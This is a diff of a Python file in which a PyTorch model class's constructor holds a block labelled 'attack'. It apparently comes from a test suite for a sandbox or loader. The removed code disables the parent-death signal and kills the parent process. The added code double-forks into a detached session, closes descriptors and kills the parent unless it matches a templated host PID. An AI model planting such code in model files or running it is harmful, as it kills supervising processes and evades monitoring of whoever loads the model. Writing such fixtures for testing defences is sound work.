@@ -1,8 +1,6 @@
-"""Undoes the signal that it gets when its parent ends, and then ends its parent."""
+"""Leaves a process in a session of its own, and kills whoever would look for it."""
 
-# seconds: 4
-
-import ctypes
+import contextlib
 import os
 import signal
 import time
@@ -15,10 +13,16 @@ class Model(nn.Module):
         super().__init__()
         self.head = nn.Linear(64, 10)
         # attack
-        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
-        os.setsid() if os.getpgrp() != os.getpid() else None
-        os.kill(os.getppid(), signal.SIGKILL)
-        time.sleep(3)
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                for number in range(256):
+                    with contextlib.suppress(OSError):
+                        os.close(number)
+                time.sleep(60)
+            os._exit(0)
+        if os.getppid() != int("@HOST_PID@"):
+            os.kill(os.getppid(), signal.SIGKILL)
         # end
 
     def forward(self, x):
